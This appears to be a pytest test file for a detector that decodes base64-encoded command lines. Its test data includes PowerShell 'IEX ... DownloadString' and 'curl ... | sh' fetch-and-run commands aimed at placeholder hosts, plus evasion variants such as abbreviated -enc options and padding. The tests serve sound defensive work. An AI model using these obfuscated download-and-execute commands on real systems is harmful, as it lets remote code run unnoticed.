"""What encoded command lines say."""

from __future__ import annotations

import base64

import pytest
from installer_trees.decoded import decoded
from installer_trees.regex import MATCH_CHARS

TEXT = "IEX (New-Object Net.WebClient).DownloadString('https://files.example/a')"
WIDE = base64.b64encode(TEXT.encode("utf-16-le")).decode()
NARROW = base64.b64encode(b"curl -fsS https://files.example/a | sh").decode()
NOISE = base64.b64encode(bytes((i * 37 + 129) % 256 for i in range(60))).decode()


@pytest.mark.parametrize(
    ("command", "text"),
    [
        (f"powershell -NoProfile -enc {WIDE}", TEXT),
        (f'powershell.exe -e "{WIDE}"', TEXT),
        (f"pwsh \u2013EncodedCommand {WIDE}", TEXT),
        (f"powershell -enc {WIDE.rstrip('=')}", TEXT),
        (f"sh -c echo {NARROW} | base64 -d | sh", "curl -fsS https://files.example/a | sh"),
        (f"python3 -c import base64;exec(base64.b64decode('{NARROW}'))",
         "curl -fsS https://files.example/a | sh"),
        (f"echo {NARROW} {WIDE} | base64 -d", f"curl -fsS https://files.example/a | sh\n{TEXT}"),
        (f"powershell -enc {NOISE}", ""),
        (f"tool --token {WIDE}", ""),
        ("powershell -enc", ""),
        ("powershell -enc A=", ""),
        ("base64 -d /usr/share/averylongdirectoryname/averylongfilename", ""),
        ("", ""),
    ],
)  # fmt: skip
def test_decoded(command: str, text: str) -> None:
    assert decoded(command) == text


@pytest.mark.parametrize("length", range(1, len("encodedcommand") + 1))
def test_every_beginning_of_the_option_is_known(length: int) -> None:
    assert decoded(f"powershell -{'EncodedCommand'[:length]} {WIDE}") == TEXT


@pytest.mark.parametrize("option", ["-ec", "/en", "--en", "\u2014\u2014enc", '"-en"', "'-e'"])
def test_the_option_as_powershell_takes_it(option: str) -> None:
    assert decoded(f"powershell {option} {WIDE}") == TEXT


def test_padding_hides_nothing() -> None:
    padded = " " * 4_000 + "IEX (New-Object Net.WebClient).DownloadString('http://a.example')"
    encoded = base64.b64encode(padded.encode("utf-16-le")).decode()
    assert decoded(f"powershell -enc {encoded}").endswith("DownloadString('http://a.example')")
    commented = "#" + "x" * 6_000 + "\nIEX 1"
    encoded = base64.b64encode(commented.encode("utf-16-le")).decode()
    assert decoded(f"powershell -enc {encoded}").endswith("\nIEX 1")


def test_no_more_is_read_than_patterns_are_searched_in() -> None:
    long = base64.b64encode(b"abc " * 50_000).decode()
    assert 20_000 < len(decoded(f"base64 -d <<< {long}")) <= MATCH_CHARS


@pytest.mark.parametrize("cut", range(1, 9))
def test_a_text_that_a_sensor_has_cut_is_read_as_far_as_it_goes(cut: int) -> None:
    assert decoded(f"powershell -enc {WIDE.rstrip('=')[:-cut]}").startswith(TEXT[:-8])
